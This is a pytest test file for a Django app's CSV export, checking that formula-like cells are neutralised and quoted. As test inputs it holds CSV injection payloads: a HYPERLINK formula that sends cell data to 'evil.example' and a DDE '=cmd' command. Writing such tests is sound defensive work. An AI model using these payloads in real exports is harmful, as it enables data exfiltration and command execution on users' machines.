"""An export opened in a spreadsheet shows what was typed, never runs it as a formula (CSV injection)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.http import HttpResponse

from wijkkracht.core.exports import csv_writer, export_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?d="&A1;"klik")',
        "+31 6 12345678",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_text_that_starts_like_a_formula_is_written_as_text(typed):
    assert export_cell(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Jansen", "Anna-Maria", "1315 AB", "a=b", " =1+1", "", "'al tekst"])
def test_other_texts_are_written_as_they_are(typed):
    assert export_cell(typed) == typed


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (-3, "-3"),
        (Decimal("-12.50"), "-12.50"),
        (-0.5, "-0.5"),
        (True, "True"),
        (datetime.date(1950, 3, 1), "1950-03-01"),
        (datetime.datetime(2030, 1, 2, 3, 4, tzinfo=datetime.UTC), "2030-01-02T03:04:00+00:00"),
    ],
)
def test_values_the_code_made_itself_are_written_as_they_are(value, written):
    assert export_cell(value) == written


def test_the_csv_writer_neutralises_and_quotes_every_cell():
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    writer = csv_writer(response)
    writer.writerow(["Naam", "Telefoon", "Aantal"])
    writer.writerows([['=cmd|" /C calc"!A0', "+31 6 1", -2], ['Jan "de Buurman"; en co', "", None]])

    body = response.content.decode()
    assert body.splitlines()[0] == '"Naam";"Telefoon";"Aantal"'
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows == [
        ["Naam", "Telefoon", "Aantal"],
        ['\'=cmd|" /C calc"!A0', "'+31 6 1", "-2"],
        ['Jan "de Buurman"; en co', "", ""],
    ]


def test_a_value_with_a_line_break_stays_in_its_own_cell():
    stream = io.StringIO()
    csv_writer(stream, delimiter=",").writerow(["eerste\n=regel", "tweede"])
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [["eerste\n=regel", "tweede"]]
